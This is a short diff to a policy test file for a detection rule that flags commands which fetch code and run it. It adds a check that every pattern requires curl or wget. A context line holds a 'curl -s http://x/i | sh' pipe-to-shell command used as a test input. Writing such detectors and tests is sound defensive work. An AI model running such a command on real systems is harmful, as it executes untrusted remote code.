@@ -38,3 +38,10 @@ test_near_misses_do_not_fire if {
 		f.host(f.exec("/bin/sh", ["sh", "-c", "curl -s http://x/i | sh"])),
 	])) == 0
 }
+
+# The rule tests for "curl" or "wget" before the regexes: every pattern must need one of them.
+test_every_pattern_needs_curl_or_wget if {
+	every pattern in pal_033.fetch_and_run {
+		contains(pattern, "(curl|wget)")
+	}
+}
